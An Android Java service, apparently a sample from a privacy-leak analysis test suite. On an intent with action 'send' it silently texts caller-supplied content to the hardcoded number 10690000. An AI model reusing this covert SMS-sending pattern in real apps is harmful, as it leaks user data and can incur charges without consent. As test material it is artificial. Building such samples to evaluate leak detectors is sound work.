package cn.privlens.suite.service_by_action;

import android.app.*;
import android.content.*;
import android.database.*;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import java.util.*;
import java.util.concurrent.*;

public class Worker extends Service {
    static final String SEND = "send";
    static final String KEEP = "keep";

    @Override
    public int onStartCommand(Intent intent, int flags, int id) {
        String action = intent == null ? "" : String.valueOf(intent.getAction());
        if (intent != null && SEND.equals(intent.getAction())) {
            SmsManager.getDefault().sendTextMessage("10690000", null, intent.getStringExtra("text"), null, null);
        }
        stopSelf(id);
        return START_NOT_STICKY;
    }

    @Override
    public IBinder onBind(Intent intent) {
        return null;
    }
}
